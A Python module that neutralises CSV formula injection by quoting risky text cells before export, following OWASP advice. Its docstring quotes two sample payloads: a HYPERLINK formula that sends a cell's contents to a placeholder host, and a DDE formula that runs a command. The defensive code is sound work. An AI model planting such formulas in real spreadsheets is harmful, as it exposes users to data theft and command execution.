"""CSV cells that are safe to open in a spreadsheet (CSV formula injection, OWASP).

A report's sentence, an outlet's name or an analyst's note may begin with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return; Excel, LibreOffice and Google Sheets read such a cell as a
formula (``=HYPERLINK("http://host/?"&A1, "click")``, ``=cmd|' /C calc'!A0``).  As OWASP
recommends, every text cell that begins with one of them is written with a leading single
quote: the spreadsheet shows the text, never runs it.  Numbers (a negative longitude) are not
text cells and are left alone.  Every CSV eventmap writes goes through here; :func:`restore`
undoes it exactly for the CSVs eventmap reads back (the analyst places overlay).
"""

from __future__ import annotations

import re
from typing import Any

#: a cell starting with one of these is a formula to a spreadsheet (OWASP: = + - @ tab CR)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_RISKY_RE = re.compile(r"^'*[=+\-@\t\r]")   # also already-quoted values, so restore() is exact
_QUOTED_RE = re.compile(r"^'+[=+\-@\t\r]")


def neutralise(value: Any) -> Any:
    """A text cell with a leading ``'`` when a spreadsheet would read it as a formula; other values as given."""
    if isinstance(value, str) and _RISKY_RE.match(value):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The value :func:`neutralise` was given (for CSVs eventmap reads back)."""
    if isinstance(value, str) and _QUOTED_RE.match(value):
        return value[1:]
    return value


def neutralise_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell neutralised (vectorised; numbers untouched)."""
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype != object and str(s.dtype) not in ("string", "str"):
            continue
        try:
            risky = s.str.match(_RISKY_RE.pattern, na=False).astype(bool)
        except AttributeError:  # an object column without strings (lists, numbers)
            continue
        if risky.any():
            out.loc[risky, col] = "'" + s[risky].astype(str)
    return out
